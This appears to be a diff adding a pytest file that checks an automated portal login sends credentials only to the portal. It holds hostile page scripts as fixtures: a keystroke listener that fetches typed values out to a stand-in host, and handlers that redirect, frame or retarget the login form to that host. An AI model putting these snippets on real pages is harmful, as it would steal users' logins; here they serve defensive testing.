@@ -1,0 +1,157 @@
+"""Only the portal gets user name and password, whatever a page does while they are typed."""
+
+from __future__ import annotations
+
+from typing import TYPE_CHECKING, Any
+
+import pytest
+
+from batchportal.errors import BatchportalError, UnsafeOrigin
+from batchportal.models import Credentials
+from flows.portal import log_in
+from tests.mini_portal import PORTAL, MiniPortal
+
+if TYPE_CHECKING:
+    from collections.abc import Mapping
+
+    from playwright.async_api import Browser
+
+    from tests.conftest import RunAsync
+
+USER, PASSWORD = "canary-user", "canary-Pw-81"
+ELSEWHERE = "https://elsewhere.test/"
+COMPANIES = "<h1>Choisissez une entreprise</h1><a href=/c>0403.170.701 Sillon</a> <a href=/o>Se déconnecter</a>"
+
+
+def form(*, action: str = "/in", script: str = "", user: str = "", more: str = "") -> str:
+    """The page that asks for both."""
+    return f"""<main><h1>Identification</h1><form method=post action="{action}">
+      <label>Nom d'utilisateur <input name=user {user}></label>
+      <label>Mot de passe <input name=password type=password></label>
+      <button {more}>Se connecter</button></form></main><script>{script}</script>"""
+
+
+SPY = form(
+    action=ELSEWHERE,
+    script="document.addEventListener('input', (e) => fetch('/spy?' + encodeURIComponent(e.target.value)))",
+)
+
+
+def signed_in(async_browser: Browser, run_async: RunAsync, pages: Mapping[str, str], **values: Any) -> MiniPortal:
+    """Log in; the portal, with what it saw."""
+    portal = MiniPortal(async_browser, {f"{PORTAL}/in": COMPANIES, ELSEWHERE: SPY, **pages})
+
+    async def walk() -> BatchportalError | None:
+        session = await portal.session(**values)
+        try:
+            await log_in(session, Credentials(USER, PASSWORD))
+        except BatchportalError as error:
+            return error
+        finally:
+            await session.close()
+        return None
+
+    portal.error = run_async(walk())
+    return portal
+
+
+def nothing_left(portal: MiniPortal) -> None:
+    """The other host saw neither, and the error says why."""
+    assert isinstance(portal.error, UnsafeOrigin), portal.error
+    assert PASSWORD not in "\n".join(portal.seen)
+    assert "canary" not in portal.seen_by("elsewhere.test")
+
+
+def test_a_plain_form_gets_both_once(async_browser: Browser, run_async: RunAsync) -> None:
+    portal = signed_in(async_browser, run_async, {f"{PORTAL}/": form()})
+    assert portal.error is None
+    assert [one for one in portal.seen if PASSWORD in one] == [f"POST {PORTAL}/in user={USER}&password={PASSWORD}"]
+
+
+@pytest.mark.parametrize(
+    "leave",
+    [
+        pytest.param(f"location.href = '{ELSEWHERE}'", id="at once"),
+        pytest.param(f"document.body.innerHTML = '<iframe src={ELSEWHERE}>'", id="into a frame"),
+        pytest.param(f"document.forms[0].action = '{ELSEWHERE}'", id="by the form's target"),
+        pytest.param(
+            f"document.querySelector('button').setAttribute('formaction', '{ELSEWHERE}')", id="by the button's target"
+        ),
+    ],
+)
+def test_a_page_that_turns_to_another_host_when_the_user_name_is_left_gets_no_password(
+    async_browser: Browser, run_async: RunAsync, leave: str
+) -> None:
+    page = form(user=f'onblur="{leave}"')
+    nothing_left(signed_in(async_browser, run_async, {f"{PORTAL}/": page}))
+
+
+@pytest.mark.parametrize("milliseconds", [0, 20, 100])
+def test_whenever_a_page_turns_to_another_host_that_one_gets_nothing(
+    async_browser: Browser, run_async: RunAsync, milliseconds: int
+) -> None:
+    later = f"onblur=\"setTimeout(() => {{ location.href = '{ELSEWHERE}' }}, {milliseconds})\""
+    portal = signed_in(async_browser, run_async, {f"{PORTAL}/": form(user=later)})
+    assert "canary" not in portal.seen_by("elsewhere.test")
+
+
+@pytest.mark.parametrize(
+    "shown",
+    [
+        pytest.param(form(action=ELSEWHERE), id="the form's target"),
+        pytest.param(form(action="http://portal.test/in"), id="a target that isn't encrypted"),
+        pytest.param(form(more=f"formaction={ELSEWHERE}"), id="the button's target"),
+        pytest.param(form(action=ELSEWHERE).replace("<button", "<input name=action><button"), id="a masked target"),
+        pytest.param(f"<iframe src={ELSEWHERE} width=600 height=400></iframe>", id="a frame of another host"),
+    ],
+)
+def test_a_form_that_leads_to_another_host_is_not_sent(async_browser: Browser, run_async: RunAsync, shown: str) -> None:
+    nothing_left(signed_in(async_browser, run_async, {f"{PORTAL}/": shown}))
+
+
+def test_a_page_of_the_portal_inside_one_of_another_host_gets_nothing(
+    async_browser: Browser, run_async: RunAsync
+) -> None:
+    around = f"<iframe src={PORTAL}/form width=600 height=400></iframe>"
+    pages = {
+        f"{PORTAL}/": f"<a href={ELSEWHERE}around>Se connecter</a>",
+        f"{ELSEWHERE}around": around,
+        f"{PORTAL}/form": form(),
+    }
+    portal = signed_in(async_browser, run_async, pages)
+    nothing_left(portal)
+    assert "canary" not in "\n".join(portal.seen)
+
+
+def test_the_second_page_of_a_log_in_is_looked_at_like_the_first(async_browser: Browser, run_async: RunAsync) -> None:
+    first = "<main><form action=/next><label>Nom d'utilisateur <input name=user></label><button>Suivant</button></form>"
+    second = "<main><form method=post action={}><label>Mot de passe <input name=p type=password></label>"
+    second += "<button>Se connecter</button></form>"
+    pages = {f"{PORTAL}/": first, f"{PORTAL}/next": second.format("/in")}
+    portal = signed_in(async_browser, run_async, pages)
+    assert portal.error is None
+    assert [one for one in portal.seen if PASSWORD in one] == [f"POST {PORTAL}/in p={PASSWORD}"]
+    nothing_left(signed_in(async_browser, run_async, {**pages, f"{PORTAL}/next": second.format(ELSEWHERE)}))
+
+
+def test_a_form_that_is_renewed_while_it_is_filled_in_is_filled_in_again(
+    async_browser: Browser, run_async: RunAsync
+) -> None:
+    renewing = """
+      const user = document.querySelector('[name=user]');
+      user.addEventListener('blur', () => setTimeout(() => {
+        const fresh = document.forms[0].cloneNode(true);
+        fresh.querySelector('[name=user]').value = user.value;
+        fresh.querySelector('[name=password]').value = '';
+        document.forms[0].replaceWith(fresh);
+      }, 50));"""
+    portal = signed_in(async_browser, run_async, {f"{PORTAL}/": form(script=renewing)})
+    assert portal.error is None
+    assert [one for one in portal.seen if PASSWORD in one] == [f"POST {PORTAL}/in user={USER}&password={PASSWORD}"]
+
+
+def test_an_allowed_host_for_logging_in_gets_both(async_browser: Browser, run_async: RunAsync) -> None:
+    pages = {f"{PORTAL}/": form(action="https://login.test/in"), "https://login.test/in": COMPANIES}
+    portal = signed_in(async_browser, run_async, pages, login_hosts="login.test")
+    assert portal.error is None
+    assert PASSWORD in portal.seen_by("login.test")
